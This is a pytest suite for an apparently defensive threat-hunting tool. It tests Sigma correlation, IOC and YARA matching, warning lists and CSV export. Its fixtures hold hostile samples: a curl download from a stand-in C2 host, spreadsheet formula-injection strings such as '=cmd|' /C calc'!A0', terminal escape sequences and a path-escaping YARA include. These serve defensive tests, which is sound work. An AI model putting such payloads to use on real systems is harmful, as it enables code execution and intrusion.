from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.evidence import SYSMON, process, rule, win_event, write_jsonl, write_rule
from unmask.cases import load_case
from unmask.cli import app
from unmask.detect.findings import FindingRow, observations_from_findings, read_findings
from unmask.detect.hunt import hunt
from unmask.detect.sigma.correlation import Correlation, Hit, describe, evaluate
from unmask.errors import CaseError
from unmask.extract.lexicon import Lexicon
from unmask.knowledge.store import KnowledgeBase
from unmask.model import ObservationKind, Tlp

runner = CliRunner()
PROC = "    product: windows\n    category: process_creation"
SECURITY = "    product: windows\n    service: security"


def _failed_logons(times: list[str], ip: str, users: list[str]) -> list[dict[str, object]]:
    return [
        win_event(
            4625,
            "Security",
            {"IpAddress": ip, "TargetUserName": user, "LogonType": 3},
            time=t,
            computer="dc01",
            record=i,
        )
        for i, (t, user) in enumerate(zip(times, users, strict=True))
    ]


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    folder = tmp_path / "evidence"
    events = [
        win_event(
            1,
            SYSMON,
            process("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
            time="2024-03-01T10:00:00Z",
            computer="ws01",
        ),
        win_event(
            1,
            SYSMON,
            process("C:\\Windows\\System32\\cmd.exe", 'cmd /c =HYPERLINK("x")'),
            time="2024-03-01T10:05:00Z",
            computer="ws02",
        ),
    ]
    write_jsonl(folder / "sysmon.jsonl", events)
    times = [f"2024-03-01T11:00:{s:02d}Z" for s in (0, 10, 20, 30, 40)]
    write_jsonl(folder / "security.jsonl", _failed_logons(times, "203.0.113.9", ["a", "b", "c", "d", "e"]))
    return folder


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    write_rule(
        folder,
        "whoami",
        rule(
            "aaaaaaaa-0000-0000-0000-000000000001",
            "Whoami",
            PROC,
            "    sel:\n        Image|endswith: '\\whoami.exe'\n    condition: sel",
            tags="attack.discovery attack.t1033",
        ),
    )
    write_rule(
        folder,
        "cmd",
        rule(
            "aaaaaaaa-0000-0000-0000-000000000002",
            "Cmd",
            PROC,
            "    sel:\n        Image|endswith: '\\cmd.exe'\n    condition: sel",
            tags="attack.t1059.003",
            level="low",
        ),
    )
    base = rule(
        "aaaaaaaa-0000-0000-0000-000000000003",
        "Failed logon",
        SECURITY,
        "    sel:\n        EventID: 4625\n    condition: sel",
        level="informational",
    )
    correlation = (
        "title: Password spraying\nid: aaaaaaaa-0000-0000-0000-000000000004\nlevel: high\nstatus: test\n"
        "tags:\n    - attack.t1110.003\ncorrelation:\n    type: value_count\n    rules:\n        - aaaaaaaa-0000-0000-0000-000000000003\n"
        "    group-by:\n        - IpAddress\n    timespan: 1m\n    condition:\n        gte: 4\n        field: TargetUserName\n"
        "    generate: true\n"  # the failed logons are findings of their own too
    )
    # The correlation is in a file of its own: references resolve across files.
    write_rule(folder, "failed", base)
    write_rule(folder, "spray", correlation)
    write_rule(folder, "broken", "title: [\n")
    return folder


def test_hunt_writes_findings_observations_and_a_case(evidence: Path, rules: Path, tmp_path: Path) -> None:
    result = hunt([evidence], [rules], tmp_path / "case", jobs=1)
    assert result.ingest.total_events == 7
    assert len(result.rules.correlations) == 1
    assert [Path(p.path).name for p in result.rules.problems] == ["broken.yml"]
    rows = list(read_findings(tmp_path / "case" / "findings.parquet"))
    titles = sorted(r.title for r in rows)
    assert titles == [
        "Cmd",
        "Failed logon",
        "Failed logon",
        "Failed logon",
        "Failed logon",
        "Failed logon",
        "Password spraying",
        "Whoami",
    ]
    spray = next(r for r in rows if r.title == "Password spraying")
    assert (
        spray.techniques == ("T1110.003",)
        and spray.host == "dc01"
        and spray.time == "2024-03-01T11:00:00.000000Z"
    )
    whoami = next(r for r in rows if r.title == "Whoami")
    assert whoami.sha256 == result.case.evidence[str(evidence / "sysmon.jsonl")]
    # The title, which travels to reports and exports, names the evidence, not where it lies here.
    assert result.case.title == f"Hunt over {evidence.name}" and str(tmp_path) not in result.case.title
    assert whoami.record == "1" and whoami.host == "ws01"
    # Each finding says what its event shows an analyst (the correlation keeps its own words).
    assert whoami.detail is not None and whoami.detail.startswith("CommandLine=whoami /all · Image=C:\\")
    failed = next(r for r in rows if r.title == "Failed logon")
    assert failed.detail is not None and "IpAddress=203.0.113.9" in failed.detail
    assert spray.detail is not None and spray.detail.startswith("value_count: 5 distinct TargetUserName")
    assert [r.title for r in rows] == [r.title for r in read_findings(tmp_path / "case" / "findings.parquet")]

    case = load_case(tmp_path / "case")  # what `unmask attribute CASE_DIR` reads
    techniques = {(o.value, o.host) for o in case.observations if o.kind is ObservationKind.TECHNIQUE}
    assert techniques == {("T1033", "ws01"), ("T1059.003", "ws02"), ("T1110.003", "dc01")}
    obs = next(o for o in case.observations if o.value == "T1033")
    assert obs.provenance is not None and obs.provenance.record == "1" and obs.confidence == 0.8
    assert obs.provenance.text is not None and "first: CommandLine=whoami /all" in obs.provenance.text
    assert set(case.evidence) == {str(evidence / "sysmon.jsonl"), str(evidence / "security.jsonl")}


def test_a_damaged_findings_file_is_an_error_that_says_where(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    case = tmp_path / "case"
    hunt([evidence], [rules], case, jobs=1)
    findings = case / "findings.parquet"
    findings.write_bytes(findings.read_bytes()[:200])  # cut short
    for command in (["timeline", str(case)], ["findings", str(case), "--format", "csv"]):
        result = runner.invoke(app, command)
        assert result.exit_code == 2, result.output
        assert "findings.parquet: the findings file is damaged" in result.stderr
    with pytest.raises(CaseError, match="damaged"):
        list(read_findings(findings))
    report = runner.invoke(app, ["report", str(case), "-o", str(tmp_path / "r.html")])
    assert report.exit_code == 2 and not (tmp_path / "r.html").exists()


def test_min_level_filters_the_evidence_for_attribution(evidence: Path, rules: Path, tmp_path: Path) -> None:
    result = hunt([evidence], [rules], tmp_path / "case", jobs=1, min_level="high")
    assert {o.value for o in result.case.observations} == {"T1033", "T1110.003"}


def test_correlation_windows() -> None:
    base = {
        "id": "c",
        "title": "c",
        "level": "high",
        "rules": ["r"],
        "group_by": ["ip"],
        "timespan": 60,
        "op": "gte",
        "count": 3,
        "fieldref": None,
        "techniques": (),
    }
    hits = [
        Hit("r", f"2024-01-01T00:00:{s:02d}Z", {"ip": ip}, None)
        for s, ip in ((0, "a"), (10, "a"), (20, "b"), (30, "a"), (50, "a"))
    ]
    fired = evaluate(Correlation(type="event_count", **base), hits)  # type: ignore[arg-type]
    assert [len(w) for w in fired] == [4]
    assert describe(Correlation(type="event_count", **base), fired[0]) == (  # type: ignore[arg-type]
        "event_count: 4 events (gte 3) within 60 s for ip=a from 2024-01-01T00:00:00Z to 2024-01-01T00:00:50Z"
    )
    late = [*hits, Hit("r", "2024-01-01T00:05:00Z", {"ip": "a"}, None)]
    assert len(evaluate(Correlation(type="event_count", **base), late)) == 1  # type: ignore[arg-type]
    ordered = dict(base, rules=["x", "y"], group_by=[], count=2)
    seq = [Hit("x", "2024-01-01T00:00:00Z", {}, None), Hit("y", "2024-01-01T00:00:30Z", {}, None)]
    assert evaluate(Correlation(type="temporal_ordered", **ordered), seq)  # type: ignore[arg-type]
    wrong_order = [seq[1], Hit("x", "2024-01-01T00:00:40Z", {}, None)]
    assert not evaluate(Correlation(type="temporal_ordered", **ordered), wrong_order)  # type: ignore[arg-type]
    # "Fewer than" is judged on whole windows: a's two events in a minute are not "fewer than 2",
    # though its last event alone would be; b's one event is.
    few = [
        Hit("r", f"2024-01-01T00:00:{s:02d}Z", {"ip": ip}, None) for s, ip in ((0, "a"), (10, "a"), (20, "b"))
    ]
    below = evaluate(Correlation(type="event_count", **dict(base, op="lt", count=2)), few)  # type: ignore[arg-type]
    assert [[h.values["ip"] for h in w] for w in below] == [["b"]]
    three = [Hit("r", f"2024-01-01T00:00:{s:02d}Z", {"ip": "a"}, None) for s in (0, 10, 20)]
    assert not evaluate(Correlation(type="event_count", **dict(base, op="eq", count=2)), three)  # type: ignore[arg-type]


def test_events_without_a_value_to_group_on_are_no_group() -> None:
    # Three failed logons without an address (missing, empty, missing) are not one burst of
    # logons from "no address"; two from one address in the minute are.
    correlation = Correlation(
        id="c",
        title="c",
        level="high",
        type="event_count",
        rules=["r"],
        group_by=["IpAddress"],
        timespan=60,
        op="gte",
        count=2,
        fieldref=None,
        techniques=(),
    )
    hits = [
        Hit("r", "2024-01-01T00:00:00Z", {"IpAddress": None}, None),
        Hit("r", "2024-01-01T00:00:10Z", {"IpAddress": ""}, None),
        Hit("r", "2024-01-01T00:00:20Z", {}, None),
        Hit("r", "2024-01-01T00:00:30Z", {"IpAddress": "10.0.0.1"}, None),
        Hit("r", "2024-01-01T00:00:40Z", {"IpAddress": "10.0.0.1"}, None),
    ]
    assert [[h.ts[-3:-1] for h in w] for w in evaluate(correlation, hits)] == [["30", "40"]]
    # Without a group-by, every hit counts.
    assert [len(w) for w in evaluate(replace(correlation, group_by=[]), hits)] == [5]


def test_cli_hunt_findings_timeline_and_attribute(evidence: Path, rules: Path, tmp_path: Path) -> None:
    case = tmp_path / "case"
    result = runner.invoke(
        app, ["hunt", str(evidence), "--rules", str(rules), "--case", str(case), "--json", "--jobs", "1"]
    )
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert summary["findings"] == 8 and summary["by_level"]["high"] == 2 and summary["total_events"] == 7

    out = runner.invoke(app, ["findings", str(case), "--format", "csv"])
    assert out.exit_code == 0, out.output
    table = list(csv.DictReader(io.StringIO(out.stdout)))
    assert len(table) == 8 and {
        "rule_id",
        "title",
        "techniques",
        "time",
        "host",
        "file",
        "sha256",
        "record",
        "software",
        "rule_path",
    } <= set(table[0])
    assert any(row["rule_path"].endswith((".yml", ".yaml")) for row in table)

    lines = runner.invoke(
        app, ["timeline", str(case), "--format", "jsonl", "--min-level", "low"]
    ).stdout.splitlines()
    times = [json.loads(line)["time"] for line in lines]
    assert times == sorted(times) and len(times) == 3

    parquet = tmp_path / "f.parquet"
    assert (
        runner.invoke(app, ["findings", str(case), "--format", "parquet", "-o", str(parquet)]).exit_code == 0
    )
    import pyarrow.parquet as pq

    exported = pq.read_table(parquet)
    assert exported.num_rows == 8 and {"sha256", "software", "rule_path"} <= set(exported.column_names)

    # --json with --output: the file in its format, and what was written on stdout.
    written = runner.invoke(
        app, ["findings", str(case), "--format", "csv", "-o", str(tmp_path / "f.csv"), "--json"]
    )
    assert written.exit_code == 0, written.output
    record = json.loads(written.stdout)
    assert record["format"] == "csv" and record["findings"] == 8 and len(record["sha256"]) == 64
    assert (tmp_path / "f.csv").read_text().startswith("rule_id,")

    bad = runner.invoke(app, ["timeline", str(tmp_path)])
    assert bad.exit_code == 2 and "not a case directory" in bad.output


def test_csv_export_defuses_formulas(tmp_path: Path) -> None:
    from unmask.cli.hunt import _csv_cell

    assert _csv_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert _csv_cell("+1") == "'+1" and _csv_cell("plain") == "plain"
    assert _csv_cell(["T1", "T2"]) == "T1;T2"
    # After a ";" too: a spreadsheet that reads ";" as the delimiter starts a cell there.
    assert _csv_cell("ws01;=1+1") == "ws01;'=1+1" and _csv_cell("a;@b;+c;-d") == "a;'@b;'+c;'-d"
    assert _csv_cell("ws01\n=1+1\r\n+2\t@3") == "ws01\n'=1+1\r\n'+2\t'@3"  # a new row or cell there too
    assert _csv_cell(["Tool", "=cmd|' /C calc'!A0"]) == "Tool;'=cmd|' /C calc'!A0"
    # On standard output (a terminal's view) escape sequences are shown, not run; a file keeps them.
    hostile = "web\x1b]0;pwned\x07\u202eexe.txt"
    assert _csv_cell(hostile, shown=True) == "web\\x1b]0;pwned\\x07\\u202eexe.txt"
    assert _csv_cell(hostile) == hostile


def test_a_route_the_engine_cannot_run_is_reported_and_the_rest_run(
    evidence: Path, rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import duckdb

    from unmask.detect.engines import duckdb as engine_module

    original = engine_module.DuckDBEngine._run_group

    def failing(self, family, where, members, db, advance):  # type: ignore[no-untyped-def]
        if members[0][1].route.name == "security":
            raise duckdb.OutOfMemoryException("Out of Memory Error: simulated")
        return original(self, family, where, members, db, advance)

    monkeypatch.setattr(engine_module.DuckDBEngine, "_run_group", failing)
    result = hunt([evidence], [rules], tmp_path / "case", jobs=1)
    assert result.engine_problems and "route security" in result.engine_problems[0]
    assert "findings are missing" in result.engine_problems[0]
    assert "raise --memory-limit (now 512MB)" in result.engine_problems[0]
    assert {"Whoami", "Cmd"} <= {counted["title"] for counted in result.by_rule.values()}


def test_flagged_events_give_infrastructure_and_file_observations(tmp_path: Path) -> None:
    from unmask.detect.artifacts import ARTIFACT_FIELDS, artifacts_of

    fields = {"DestinationIp": "ip", "QueryName": "domain", "Hashes": "hashes"}
    found = artifacts_of(
        {
            "DestinationIp": "5.6.7.8",
            "QueryName": "c2.example.com.",
            "Hashes": "MD5=" + "a" * 32 + ",SHA256=" + "B" * 64,
        },
        fields,
    )
    assert [(a.subtype, a.value) for a in found] == [
        ("ip", "5.6.7.8"),
        ("domain", "c2.example.com"),
        ("sha256", "b" * 64),
    ]
    assert artifacts_of({"DestinationIp": "10.0.0.5", "QueryName": "dc01.corp.local"}, fields) == []
    # A web server's flagged request: its client; a proxy's: the server the client reached.
    web = ARTIFACT_FIELDS["web"]
    request = {"c-ip": "45.77.65.211", "cs-host": "portal.victim.example", "r-ip": None}
    assert [a.value for a in artifacts_of({**request, "_log": "access"}, web)] == ["45.77.65.211"]
    proxied = {"_log": "proxy", "c-ip": "10.0.0.5", "cs-host": "c2.example.com", "r-ip": "5.6.7.8"}
    assert [a.value for a in artifacts_of(proxied, web)] == ["c2.example.com", "5.6.7.8"]
    assert [a.value for a in artifacts_of({**proxied, "cs-host": "5.6.7.9", "r-ip": None}, web)] == [
        "5.6.7.9"
    ]

    folder = tmp_path / "ev"
    events = [
        win_event(
            3,
            SYSMON,
            {"Image": "C:\\x\\implant.exe", "DestinationIp": "5.6.7.9"},
            computer="ws05",
            time="2024-03-02T01:00:00Z",
        ),
        win_event(
            3,
            SYSMON,
            {"Image": "C:\\x\\implant.exe", "DestinationIp": "192.168.1.1"},
            computer="ws05",
            time="2024-03-02T01:00:01Z",
        ),
        win_event(
            3,
            SYSMON,
            {"Image": "C:\\x\\other.exe", "DestinationIp": "5.6.7.10"},
            computer="ws05",
            time="2024-03-02T01:00:02Z",
        ),
    ]
    write_jsonl(folder / "net.jsonl", events)
    net = "    product: windows\n    category: network_connection"
    write_rule(
        tmp_path / "r",
        "net",
        rule(
            "bbbbbbbb-0000-0000-0000-000000000001",
            "Implant beacon",
            net,
            "    sel:\n        Image|endswith: '\\implant.exe'\n    condition: sel",
            tags="attack.t1071",
        ),
    )
    result = hunt([folder], [tmp_path / "r"], tmp_path / "case", jobs=1)
    infra = [o for o in result.case.observations if o.kind is ObservationKind.INFRASTRUCTURE]
    assert [(o.subtype, o.value, o.host) for o in infra] == [("ip", "5.6.7.9", "ws05")]
    assert infra[0].provenance is not None and infra[0].provenance.record == "1"


def test_iocs_match_any_field_and_benign_values_are_suppressed(tmp_path: Path) -> None:
    folder = tmp_path / "ev"
    events = [
        win_event(
            1,
            SYSMON,
            process("C:\\x\\a.exe", "curl.exe hxxp://ignored http://evil-c2.example/Stage2.XSL -o x"),
            computer="ws07",
        ),
        win_event(3, SYSMON, {"Image": "C:\\x\\b.exe", "DestinationIp": "5.6.7.8"}, computer="ws07"),
        win_event(3, SYSMON, {"Image": "C:\\x\\c.exe", "DestinationIp": "8.8.8.8"}, computer="ws07"),
        win_event(1, SYSMON, process("C:\\x\\d.exe", "d.exe", Hashes="SHA256=" + "C" * 64), computer="ws08"),
    ]
    write_jsonl(folder / "sysmon.jsonl", events)
    iocs = tmp_path / "iocs.txt"
    iocs.write_text(
        "evil-c2[.]example\nhttp://evil-c2.example/Stage2.XSL\n5.6.7.8\n8.8.8.8\n10.0.0.1\n"
        + "c" * 64
        + "\nnot-an-indicator!\n"
    )
    rules = tmp_path / "rules"
    rules.mkdir()
    result = hunt([folder], [rules], tmp_path / "case", jobs=1, iocs=[iocs])
    assert {s["value"] for s in result.iocs["suppressed"]} == {"8.8.8.8", "10.0.0.1"}
    assert result.iocs["skipped"] == 1
    rows = [r for r in read_findings(tmp_path / "case" / "findings.parquet") if r.rule_id.startswith("ioc:")]
    details = {r.rule_id: r.detail for r in rows}
    assert set(details) == {"ioc:domain", "ioc:ip", "ioc:sha256", "ioc:url"}
    # One event holding the domain and the URL is one event matched; the URL keeps its path's case.
    assert result.iocs["events"] == 3 and sum(result.iocs["matched"].values()) == 4
    assert details["ioc:domain"] is not None and details["ioc:domain"].startswith("CommandLine=")
    assert details["ioc:ip"] == "DestinationIp=5.6.7.8"
    observed = {(o.kind.value, o.value) for o in result.case.observations if o.confidence == 0.9}
    assert {
        ("infrastructure", "evil-c2.example"),
        ("infrastructure", "http://evil-c2.example/Stage2.XSL"),
        ("infrastructure", "5.6.7.8"),
        ("file", "c" * 64),
    } <= observed
    # Once each: the matched values are the indicators' observations, not also artifacts of the
    # events their own findings flagged.
    values = [o.value for o in result.case.observations if o.value in ("5.6.7.8", "c" * 64)]
    assert sorted(values) == ["5.6.7.8", "c" * 64]
    assert result.case.tlp is Tlp.AMBER
    # A partner's indicator file marked red makes the case red (and so every export of it).
    red = tmp_path / "red.json"
    red.write_text(
        json.dumps(
            {
                "type": "bundle",
                "id": "bundle--1",
                "objects": [
                    {
                        "type": "indicator",
                        "id": "indicator--1",
                        "pattern_type": "stix",
                        "pattern": "[ipv4-addr:value = '5.6.7.8']",
                        "object_marking_refs": ["marking-definition--e828b379-4e03-4974-9ac4-e53a884c97c1"],
                    }
                ],
            }
        )
    )
    assert hunt([folder], [rules], tmp_path / "case2", jobs=1, iocs=[iocs, red]).case.tlp is Tlp.RED


def test_indicator_files_stix_and_misp(tmp_path: Path) -> None:
    from unmask.detect.indicators import load_indicators

    bundle = {
        "type": "bundle",
        "id": "bundle--1",
        "objects": [
            {
                "type": "indicator",
                "id": "indicator--1",
                "pattern_type": "stix",
                "pattern": "[ipv4-addr:value = '5.6.7.8'] OR [domain-name:value = 'Evil.Example.']",
            },
            {
                "type": "indicator",
                "id": "indicator--2",
                "pattern_type": "stix",
                "pattern": "[file:hashes.'SHA-256' = '" + "ab" * 32 + "']",
            },
            {
                "type": "indicator",
                "id": "indicator--3",
                "pattern_type": "stix",
                "pattern": "[process:name = 'x.exe']",
            },
            {"type": "malware", "id": "malware--1", "name": "x"},
        ],
    }
    path = tmp_path / "b.json"
    path.write_text(json.dumps(bundle))
    found = load_indicators(path)
    assert {(i.kind, i.value) for i in found.indicators} == {
        ("ip", "5.6.7.8"),
        ("domain", "evil.example"),
        ("sha256", "ab" * 32),
    }
    assert found.skipped == 1
    event = {
        "Event": {
            "info": "x",
            "Attribute": [
                {"type": "ip-dst|port", "value": "5.6.7.9|443", "uuid": "u1"},
                {"type": "comment", "value": "hi"},
            ],
            "Object": [{"Attribute": [{"type": "url", "value": "hxxps://bad[.]example/a", "uuid": "u2"}]}],
        }
    }
    path.write_text(json.dumps(event))
    found = load_indicators(path)
    assert {(i.kind, i.value, i.ref) for i in found.indicators} == {
        ("ip", "5.6.7.9", "u1"),
        ("url", "https://bad.example/a", "u2"),
    }
    path.write_text("{ not json")
    with pytest.raises(Exception, match="malformed JSON"):
        load_indicators(path)


def test_yara_rules_scan_evidence_files_and_bad_rules_are_reported(tmp_path: Path) -> None:
    evidence = tmp_path / "ev"
    evidence.mkdir()
    (evidence / "dropper.bin").write_bytes(b"MZ\x90\x00 some padding HOMELANDJUSTICE-WIPER marker \x00\x01")
    (evidence / "clean.bin").write_bytes(b"nothing to see")
    rules = tmp_path / "yara"
    rules.mkdir()
    (rules / "wiper.yar").write_text(
        'rule Wiper_Marker : T1485 {\n meta:\n  description = "wiper marker"\n  mitre_attack = "T1561.002"\n'
        ' strings:\n  $a = "HOMELANDJUSTICE-WIPER"\n condition:\n  $a\n}\n'
    )
    (rules / "broken.yar").write_text("rule Broken { condition: and }\n")
    # Includes are read from under the rule folder only: a rule file cannot read other files.
    (rules / "sneaky.yar").write_text(f'include "{tmp_path / "secret.txt"}"\nrule S {{ condition: true }}\n')
    (tmp_path / "secret.txt").write_text("rule Secret { condition: true }\n")
    sigma = tmp_path / "sigma"
    sigma.mkdir()
    result = hunt([evidence], [sigma], tmp_path / "case", jobs=1, yara_rules=[rules])
    assert result.yara["rule_files"] == 1 and result.yara["matches"] == 1
    assert any("broken.yar" in p and "syntax error" in p for p in result.yara["problems"])
    assert any("sneaky.yar" in p and "include" in p for p in result.yara["problems"])
    row = next(
        r for r in read_findings(tmp_path / "case" / "findings.parquet") if r.rule_id.startswith("yara:")
    )
    assert row.file.endswith("dropper.bin") and set(row.techniques) == {"T1561.002", "T1485"}
    assert any(o.kind is ObservationKind.FILE and o.value == row.sha256 for o in result.case.observations)


def test_benign_index_covers_cidr_ranges_and_subdomains() -> None:
    from unmask.knowledge.warninglists import BenignIndex

    index = BenignIndex(
        [
            ("rfc1918", "cidr", ["10.0.0.0/8", "172.16.0.0/12", "fd00::/8"]),
            ("sites", "hostname", ["example-cdn.com"]),
            ("resolvers", "string", ["1.1.1.1"]),
        ]
    )
    assert index.lists_for("10.20.30.40") == ["rfc1918"]
    assert index.lists_for("172.31.255.255") == ["rfc1918"] and index.lists_for("172.32.0.1") == []
    assert index.lists_for("fd12::1") == ["rfc1918"]
    assert index.lists_for("img.example-cdn.com.") == ["sites"]
    assert index.lists_for("1.1.1.1") == ["resolvers"] and index.lists_for("evil.com") == []
    # Documentation ranges stand for public addresses (examples, exercises): never vouched for.
    reserved = BenignIndex([("rfc5735", "cidr", ["192.0.2.0/24", "203.0.113.0/24", "2001:db8::/32"])])
    assert reserved.lists_for("203.0.113.45") == [] and reserved.lists_for("2001:db8::7") == []


def test_a_failed_hunt_leaves_the_earlier_one_whole(evidence: Path, rules: Path, tmp_path: Path) -> None:
    from unmask.errors import ConfigError, IngestError

    case_dir = tmp_path / "case"
    hunt([evidence], [rules], case_dir, jobs=1)
    before = {p.name: p.read_bytes() for p in case_dir.iterdir() if p.is_file()}
    events = sorted(str(p.relative_to(case_dir)) for p in (case_dir / "events").rglob("*"))
    bad = tmp_path / "bad-iocs.json"
    bad.write_text('{"bad')
    other = tmp_path / "other"
    write_jsonl(other / "x.jsonl", [{"msg": "other"}])
    with pytest.raises(IngestError, match="malformed JSON"):
        hunt([other], [rules], case_dir, jobs=1, iocs=[bad])
    for limit, message in (("abc", "give a size"), ("1KB", "at least 64MB")):
        with pytest.raises(ConfigError, match=message):
            hunt([other], [rules], case_dir, jobs=1, memory_limit=limit)
    assert {p.name: p.read_bytes() for p in case_dir.iterdir() if p.is_file()} == before
    assert sorted(str(p.relative_to(case_dir)) for p in (case_dir / "events").rglob("*")) == events
    assert not [p for p in case_dir.iterdir() if p.name.startswith(".")]
    (tmp_path / "afile").write_text("x")
    with pytest.raises(IngestError, match="cannot create the case folder"):
        hunt([other], [rules], tmp_path / "afile" / "sub", jobs=1)


def test_malformed_misp_indicator_files_are_read_as_far_as_they_go(tmp_path: Path) -> None:
    from unmask.detect.indicators import load_indicators

    for text in ('{"Event": {"Attribute": null}}', '{"Event": "oops"}', '{"Event": {"Object": ["x", 5]}}'):
        path = tmp_path / "event.json"
        path.write_text(text)
        assert load_indicators(path, None).indicators == []
    path.write_text(
        json.dumps(
            {
                "Event": {
                    "Attribute": [{"type": "domain", "value": None}, {"type": "ip-dst", "value": "5.6.7.8"}]
                }
            }
        )
    )
    found = load_indicators(path, None)
    assert [i.value for i in found.indicators] == ["5.6.7.8"]
    assert found.problems == [f"{path}:attribute 0: '' is not a usable indicator; skipped"]


def test_shipped_warninglists_do_not_vouch_for_abused_services() -> None:
    # Popularity rankings and lists of abused services (dynamic DNS, shorteners, shared hosting
    # seen through a popular parent domain) must not hide an intruder's server.
    from unmask.knowledge.warninglists import benign_index

    index = benign_index()
    for value in (
        "evil-c2.duckdns.org",
        "drop.github.io",
        "c2.workers.dev",
        "bit.ly",
        "google.com.evil.example",
    ):
        assert index.lists_for(value) == [], value
    assert index.lists_for("8.8.8.8") and index.lists_for("10.1.2.3")
    # A report's reference links are not infrastructure; a page on a big platform may well be.
    assert index.lists_for("https://attack.mitre.org/techniques/T1059") == [
        "unmask: reference sites cited in reports"
    ]
    assert index.lists_for("https://docs.google.com/document/d/x") == []


def test_indicator_lists_with_a_bom_and_url_fragments(tmp_path: Path) -> None:
    from unmask.detect.indicators import load_indicators

    table = tmp_path / "iocs.csv"
    table.write_bytes("\ufeffvalue,type\nevil.example,domain\n".encode())
    assert [(i.kind, i.value) for i in load_indicators(table, None).indicators] == [
        ("domain", "evil.example")
    ]
    listed = tmp_path / "iocs.txt"
    listed.write_text("# partner list\nhttps://evil.example/a#frag  # seen 2024-03-01\n")
    found = load_indicators(listed, None)
    assert [i.value for i in found.indicators] == ["https://evil.example/a#frag"] and not found.problems
    # A file name in a bare list is no domain: it would match every process of that name.
    listed.write_text("vssadmin.exe\nbad-update.com\nevil13[.]zip\n")
    found = load_indicators(listed, None)
    assert [(i.kind, i.value) for i in found.indicators] == [
        ("domain", "bad-update.com"),
        ("domain", "evil13.zip"),
    ]
    assert found.problems == [
        f"{listed}:line 1: 'vssadmin.exe' is a file name, not a usable indicator; skipped"
    ]


def test_a_rule_tagged_with_several_sub_techniques_of_one_parent_says_the_parent() -> None:
    from unmask.detect.findings import rule_techniques

    mimikatz = ["T1003.001", "T1003.002", "T1003.004", "T1003.005", "T1003.006", "T1059.001"]
    assert rule_techniques(mimikatz) == ["T1003", "T1059.001"]
    assert rule_techniques(["T1003", "T1003.001"]) == ["T1003", "T1003.001"]
    assert rule_techniques(["T1003.001", "T1003", "T1003.002"]) == ["T1003"]


def test_a_new_hunt_keeps_what_other_sources_added_to_the_case(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    from unmask.cases.directory import load_case_dir, save_case_dir
    from unmask.errors import ConfigError
    from unmask.model import Observation, Provenance, Tlp

    case_dir = tmp_path / "case"
    hunt([evidence], [rules], case_dir, jobs=1)
    case = load_case_dir(case_dir)
    hunted = len(case.observations)
    case.observations.append(
        Observation(
            ObservationKind.INFRASTRUCTURE, "evil.example", "domain", provenance=Provenance("partner.json")
        )
    )
    case.tlp = Tlp.RED
    case.evidence["partner.json"] = "ab" * 32
    save_case_dir(case_dir, case)
    first = hunt([evidence], [rules], case_dir, jobs=1)
    assert first.replaced == []
    again = load_case_dir(case_dir)
    assert again.tlp is Tlp.RED and len(again.observations) == hunted + 1
    assert any(o.value == "evil.example" for o in again.observations)
    # A hunt over other evidence replaces the earlier hunt: its files leave the evidence list,
    # and the result says so; what extract added stays.
    other_logs = tmp_path / "other" / "one.jsonl"
    other_logs.parent.mkdir()
    other_logs.write_text('{"EventID": 1, "Image": "C:\\\\x.exe"}\n')
    replaced = hunt([other_logs], [rules], case_dir, jobs=1)
    assert replaced.replaced and all("partner.json" not in r for r in replaced.replaced)
    third = load_case_dir(case_dir)
    assert "partner.json" in third.evidence and not set(replaced.replaced) & set(third.evidence)
    assert any(o.value == "evil.example" for o in third.observations)
    # The title the first hunt gave names this hunt's evidence now; an analyst's own title stays.
    assert third.title == "Hunt over one.jsonl"
    third.title = "Ministry intrusion"
    save_case_dir(case_dir, third)
    moved = tmp_path / "moved" / "one.jsonl"
    moved.parent.mkdir()
    moved.write_bytes(other_logs.read_bytes())
    fourth = hunt([moved], [rules], case_dir, jobs=1)
    assert fourth.replaced == []  # the same file under another path is not replaced evidence
    assert load_case_dir(case_dir).title == "Ministry intrusion"
    # A folder of other files, or the evidence itself, is not a case folder to overwrite.
    other = tmp_path / "project"
    other.mkdir()
    (other / "notes.txt").write_text("mine")
    with pytest.raises(ConfigError, match=r"other files and no case\.json"):
        hunt([evidence], [rules], other, jobs=1)
    with pytest.raises(ConfigError, match="holds the evidence"):
        hunt([evidence], [rules], evidence.parent, jobs=1)


def test_resolver_host_names_do_not_hide_their_subdomains_and_utf16_lists_read(tmp_path: Path) -> None:
    from unmask.detect.indicators import load_indicators
    from unmask.knowledge.warninglists import BenignIndex

    index = BenignIndex(
        [("List of known public DNS resolvers expressed as hostname", "hostname", ["tube-hosting.com"])]
    )
    assert index.lists_for("tube-hosting.com") and index.lists_for("vps7.tube-hosting.com") == []
    listed = tmp_path / "iocs.txt"
    listed.write_bytes("evil.example\r\n198.51.100.4\r\n".encode("utf-16"))
    assert {i.value for i in load_indicators(listed, None).indicators} == {"evil.example", "198.51.100.4"}


def test_timeline_table_shows_the_first_rows_and_says_so(
    evidence: Path, rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from unmask.cli import hunt as hunt_cli

    case = tmp_path / "case"
    assert (
        runner.invoke(app, ["hunt", str(evidence), "--rules", str(rules), "--case", str(case)]).exit_code == 0
    )
    monkeypatch.setattr(hunt_cli, "TIMELINE_TABLE_ROWS", 2)
    out = runner.invoke(app, ["timeline", str(case), "--min-level", "informational"])
    assert out.exit_code == 0, out.output
    text = " ".join(out.output.split())
    assert "(8 findings; the first 2 in time)" in text and "showing the first 2 of 8 findings" in text
    # csv and jsonl stream every finding, in time order, undated last.
    lines = runner.invoke(app, ["timeline", str(case), "--format", "jsonl", "--min-level", "informational"])
    times = [json.loads(line)["time"] for line in lines.stdout.splitlines()]
    # The table shows a time whole, to the second, on one line even in an 80-column terminal.
    first = min(t for t in times if t)
    assert f"{first[:10]} {first[11:19]}" in out.output
    dated = [t for t in times if t]
    assert len(times) == 8 and dated == sorted(dated) and times[: len(dated)] == dated


def test_rules_only_correlations_use_report_no_findings_of_their_own(
    evidence: Path, rules: Path, tmp_path: Path
) -> None:
    spray = rules / "spray.yml"
